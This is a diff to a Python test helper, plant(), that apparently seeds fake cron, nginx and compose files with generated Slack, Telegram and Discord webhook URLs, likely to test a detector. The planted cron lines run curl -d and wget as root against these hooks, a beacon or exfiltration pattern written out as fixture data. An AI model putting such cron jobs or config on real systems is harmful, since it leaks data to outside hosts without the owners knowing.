@@ -49,11 +49,11 @@ def plant(root):
     write(root, "/etc/cron.d/x", "* * * * * root curl -s %s -d x\n5 * * * * root wget %s; curl %s\n"
           % (telegram(), slack(), discord()))
     write(root, "/etc/nginx/nginx.conf",
-          "events {}\nhttp { server { listen 80; root /srv/w;\nlocation /a { proxy_pass %s; }\n"
+          "events {}\nhttp { include %s;\nserver { listen 80; root /srv/w;\nlocation /a { proxy_pass %s; }\n"
           "location /b { proxy_pass %s; }\nlocation /c { rewrite ^ %s permanent; }\n"
           "location /d { add_header X-H %s; error_page 404 %s; }\n"
           "location /e { sub_filter x '%s'; }\nlocation ~ ^/f { set $h %s; return 302 $h; } } }\n"
-          % (slack(), telegram(), discord(), slack(), slack(), telegram(), slack()))
+          % (slack(), slack(), telegram(), discord(), slack(), slack(), telegram(), slack()))
     write(root, "/srv/app/compose.yaml",
           "services:\n  a:\n    image: x\n    command: notify %s\n    environment:\n      HOOK: %s\n"
           "    ports: ['80:80']\n    labels:\n      hook: %s\n" % (slack(), telegram(), discord()))
